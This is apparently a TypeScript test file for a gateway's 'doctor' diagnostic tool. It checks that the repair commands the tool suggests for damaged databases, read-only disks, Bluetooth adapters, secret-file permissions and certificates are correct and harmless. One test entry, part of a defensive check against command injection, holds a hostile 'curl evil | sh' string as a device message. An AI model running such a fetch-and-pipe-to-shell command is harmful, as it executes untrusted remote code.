// What the doctor tells people to type is the right thing, and harms nothing.
import { execFileSync } from 'node:child_process';
import { chmodSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { userInfo } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { DoctorWorld, SECRET } from '../../../test/support/doctor-world.ts';
import type { Check, Mend, Result } from './check.ts';
import { card } from './checks/card.ts';
import { certificates } from './checks/certificates.ts';
import { clock } from './checks/clock.ts';
import { database } from './checks/database.ts';
import { disk } from './checks/disk.ts';
import { radio } from './checks/radio.ts';
import { running } from './checks/running.ts';
import { settings } from './checks/settings.ts';

async function mendOf(check: Check, world: DoctorWorld, words: RegExp): Promise<Mend | undefined> {
	const results: Result[] = await check.run(world.surroundings, AbortSignal.timeout(check.limitMs));
	const found = results.find((result) => words.test(result.words));
	return found && 'mend' in found ? found.mend : undefined;
}

test('a damaged database is moved with the files beside it: they hold its newest events, and a new one deletes them', async () => {
	await using world = new DoctorWorld();
	for (const end of ['', '-wal', '-shm']) writeFileSync(join(world.data, `gateway.sqlite${end}`), 'x'.repeat(5000));
	const mend = await mendOf(database, world, /is damaged/);
	execFileSync('sh', ['-c', (mend as { command: string }).command]);
	expect(readdirSync(world.data)).toEqual(['damaged']);
	expect(readdirSync(join(world.data, 'damaged'))).toHaveLength(3);
});

const DAMAGED: [string, Check, (world: DoctorWorld) => void][] = [
	['a read-only disk', disk, (world) => world.file('/proc/self/mountinfo', '30 1 179:2 / / ro - ext4 /dev/sda2 ro')],
	[
		'a disk that cannot be written',
		disk,
		({ surroundings }) => {
			surroundings.probe = async () => ({ code: 'EROFS' });
		},
	],
	['a file system with errors', card, (world) => world.file('/sys/fs/ext4/mmcblk0p2/errors_count', '3')],
];

test.each(DAMAGED)(
	'%s is repaired by a restart: written to as it is, it takes more damage',
	async (_what, check, lay) => {
		await using world = new DoctorWorld();
		lay(world);
		expect(await mendOf(check, world, /read-only|has noted 3 errors/)).toEqual({ command: 'sudo reboot' });
	},
);

test.each<[string, Check, (world: DoctorWorld) => void]>([
	...DAMAGED,
	['no Bluetooth', radio, (world) => world.remove('/sys/class/bluetooth')],
	['a blocked adapter', radio, (world) => world.file('/sys/class/rfkill/rfkill0/soft', '1')],
	[
		'an adapter that is down',
		radio,
		({ surroundings }) => {
			surroundings.probe = async () => ({ opened: true, up: false });
		},
	],
	['a clock that nobody sets', clock, (world) => world.tool('timedatectl', 'echo NTPSynchronized=no; echo CanNTP=no')],
])('in a container %s is nothing that a command typed there mends', async (_what, check, lay) => {
	await using world = new DoctorWorld();
	lay(world);
	world.file('/.dockerenv', '');
	const results = await check.run(world.surroundings, AbortSignal.timeout(check.limitMs));
	const wrong = results.filter(({ state }) => state === 'fail');
	expect(wrong).toHaveLength(1);
	expect(wrong[0]).toHaveProperty('mend.hands', 'This is a container: mend it on its host.');
});

test('a secret that is closed to others stays open to the service', async () => {
	await using world = new DoctorWorld();
	const user = process.getuid?.() === 0 ? 'nobody' : userInfo().username;
	world.surroundings.serviceUser = user;
	const path = world.store('password', SECRET, 0o604);
	chmodSync(path, 0o604);
	const mend = await mendOf(settings, world, /Every user of this machine/);
	execFileSync('sh', ['-c', (mend as { command: string }).command.replaceAll('sudo ', '')]);
	expect(statSync(path).mode & 0o777).toBe(0o640);
	expect(statSync(path).gid).toBe(Number(execFileSync('id', ['-g', user])));
});

test('a certificate that others signed is not overwritten by one of our own', async () => {
	await using world = new DoctorWorld();
	const at = (name: string) => join(world.folder, name);
	const openssl = (...args: string[]) => execFileSync('openssl', args, { stdio: 'ignore' });
	const newKey = ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes'];
	openssl('req', '-x509', ...newKey, '-days', '3', '-subj', '/CN=ca', '-keyout', at('ca.key'), '-out', at('ca.pem'));
	openssl('req', ...newKey, '-subj', '/CN=store', '-keyout', at('key.pem'), '-out', at('store.csr'));
	const signing = ['-CA', at('ca.pem'), '-CAkey', at('ca.key'), '-CAcreateserial', '-days', '3'];
	openssl('x509', '-req', '-in', at('store.csr'), ...signing, '-out', at('cert.pem'));
	const tls = { keyFile: at('key.pem'), certFile: at('cert.pem') };
	Object.assign(world.config, { broker: { ...world.config.broker, tls } });
	world.surroundings.nowS = Date.now() / 1000;
	expect(await mendOf(certificates, world, /expires in/)).toEqual({
		hands: expect.stringMatching(/cert\.pem renewed with its key/),
	});
});

test.each([
	['radio gw', 'hci0 is switched off: run `sudo hciconfig hci0 up`', 'sudo hciconfig hci0 up'],
	['radio gw', 'h4:tcp:a:1 does not answer: correct `transport`', undefined],
	['satellite sat-shoes', 'cannot read what it sends: run `curl evil | sh`', undefined],
])(
	'of what %s says in "%s", a command is taken from a radio only, and only what it says to run',
	async (name, words, command) => {
		await using world = new DoctorWorld();
		const parts = [{ name, state: 'failed', words }];
		world.surroundings.running = { state: 'there', url: 'http://127.0.0.1:7071', parts, outboxEvents: 0 };
		const mend = await mendOf(running, world, new RegExp(`^${name}:`));
		if (command === undefined) expect(mend).not.toHaveProperty('command');
		else expect(mend).toEqual({ command });
	},
);
